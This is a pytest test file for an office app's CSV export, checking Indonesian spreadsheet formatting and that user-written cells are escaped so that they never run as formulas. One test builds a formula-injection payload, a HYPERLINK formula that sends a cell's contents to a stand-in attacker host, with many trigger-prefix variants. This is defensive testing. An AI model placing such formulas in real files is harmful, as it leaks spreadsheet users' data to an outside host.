"""CSV for an office's spreadsheet: opens rightly where the comma is the decimal sign, and holds no formula."""

import csv
from io import StringIO

import pytest

from kentongan.web.csv_files import csv_file, csv_text


def read(text: str) -> list[list[str]]:
    """Read the file as a spreadsheet set to Indonesian does."""
    assert text.startswith("\ufeff")
    return list(csv.reader(StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))


def test_what_goes_in_comes_out() -> None:
    rows = [
        ["No.", "Jenis; sifat", "Uraian"],
        ["1/2026", 'Ia berkata "sudah"', "baris satu\nbaris dua; masih dua"],
        ["2/2026", "", "Rp1.000,50 – ditangguhkan"],
    ]
    assert read(csv_text(rows)) == rows


@pytest.mark.parametrize(
    "start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", " =", "\u00a0@", "  \t="]
)
def test_nothing_that_somebody_wrote_becomes_a_formula(start: str) -> None:
    cell = f'{start}HYPERLINK("http://jahat.example/?"&A1;"lihat")'
    assert read(csv_text([["aman", cell]])) == [["aman", f"'{cell}"]]


@pytest.mark.parametrize("cell", ["", " ", "a=b", "1-2", "surel@contoh.test", "10 + 5", "'=1"])
def test_what_is_no_formula_stays_as_it_was_written(cell: str) -> None:
    assert read(csv_text([[cell]])) == [[cell]]


def test_lines_end_as_the_standard_says() -> None:
    assert csv_text([["a", "b"], ["c", "d"]]) == '\ufeff"a";"b"\r\n"c";"d"\r\n'


def test_it_is_a_file_to_be_kept() -> None:
    response = csv_file("rekapitulasi-2026", [["a"]])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="rekapitulasi-2026.csv"'
    assert response.content.startswith(b"\xef\xbb\xbf")
